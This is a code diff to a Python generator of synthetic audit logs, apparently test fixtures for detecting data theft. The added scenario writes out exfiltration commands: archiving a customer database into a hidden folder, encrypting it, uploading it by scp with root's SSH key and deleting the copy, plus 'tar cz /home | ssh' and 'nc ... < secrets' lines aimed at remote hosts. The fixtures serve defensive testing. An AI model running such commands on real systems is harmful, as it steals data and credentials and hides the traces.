@@ -436,6 +436,66 @@ def sudo_only():
     return story.text()
 
 
+def packed_and_removed():
+    """Opens, reads and removals are audited: packed, encrypted, sent and removed; a pipe; a file
+    that the shell opened."""
+    story = Story()
+    shell = story.cron_job("/usr/local/sbin/nightly")
+    tar = shell.fork(710).exec("/usr/bin/tar", "tar", "czf", "/var/tmp/.x/db.tgz", "/srv/db",
+                               cwd="/")
+    tar.load("/lib/x86_64-linux-gnu/libc.so.6", "/etc/passwd")
+    tar.open(3, "/var/tmp/.x/db.tgz", "/", flags=0x41)
+    tar.open(4, "/srv/db", "/", flags=0x90800, mode="040755")
+    tar.open(5, "customers.sql", "/", folder=4)
+    tar.read(5, 7_000_000)
+    gpg = shell.fork(712).exec("/usr/bin/gpg", "gpg", "--batch", "-o", "../.x/db.bin", "-c",
+                               "db.tgz", cwd="/var/tmp/.x")
+    gpg.open(3, "db.tgz", "/var/tmp/.x")
+    scp = shell.fork(714).exec("/usr/bin/scp", "scp", "-q", "db.bin", "drop@203.0.113.10:up/",
+                               cwd="/var/tmp/.x")
+    scp.load("/lib/x86_64-linux-gnu/libc.so.6")
+    ssh = scp.fork(715).exec("/usr/bin/ssh", "/usr/bin/ssh", "-x", "-l", "drop", "-s", "--",
+                             "203.0.113.10", "sftp", cwd="/var/tmp/.x")
+    ssh.open(3, "/etc/ssh/ssh_config")
+    ssh.open(-2, "/root/.ssh/id_rsa")
+    ssh.close(3)
+    scp.open(3, "db.bin", "/var/tmp/.x")
+    scp.read(3, 120_000_000)
+    scp.read(3, 500_000)
+    scp.close(3)
+    ssh.upload(3, "203.0.113.10", 22, 3000, 120_000_000)
+    shell.fork(716).exec("/usr/bin/rm", "rm", "-f", "/var/tmp/.x/db.bin").unlink(
+        "/var/tmp/.x/db.bin")
+    shell = story.cron_job("tar cz /home | ssh 203.0.113.44 tar xz", pid=800)
+    shell.pipe(3, 4)
+    tar = shell.fork(810)
+    tar.dup2(4, 1)
+    tar.close(3)
+    tar.close(4)
+    tar.exec("/usr/bin/tar", "tar", "cz", "/home", "/etc/passwd", cwd="/")
+    tar.open(3, "/home/a\nb.txt", "/")
+    tar.read(3, 50_000_000)
+    tar.close(3)
+    tar.open(3, "/etc/passwd", "/")
+    ssh = shell.fork(811)
+    ssh.dup2(3, 0)
+    ssh.close(3)
+    ssh.close(4)
+    ssh.exec("/usr/bin/ssh", "ssh", "203.0.113.44", "tar", "xz")
+    ssh.upload(3, "203.0.113.44", 22, 3000, 60_000_000)
+    shell = story.cron_job("nc 203.0.113.45 99 < secrets", pid=900)
+    nc = shell.fork(910)
+    nc.open(3, "secrets")
+    nc.dup2(3, 0)
+    nc.close(3)
+    nc.exec("/usr/bin/nc", "nc", "203.0.113.45", "99")
+    nc.connect(3, "203.0.113.45", 99)
+    nc.read(0, 30_000_000)
+    nc.write(3, 30_000_000)
+    story.chatter(400)
+    return story.text()
+
+
 def one_job():
     story = scp_job()
     story.chatter()
@@ -493,6 +553,8 @@ LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titl
         "scan-image-sizes": sizes, "transfers-image-sizes": sizes,
         "scan-sudo": sudo_only,
         "scan-logins": logins,
+        "scan-files": packed_and_removed, "explain-files": packed_and_removed,
+        "transfers-files": packed_and_removed, "transfers-files-table": packed_and_removed,
         "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}
 
 for case in sys.argv[1:] or LOGS:
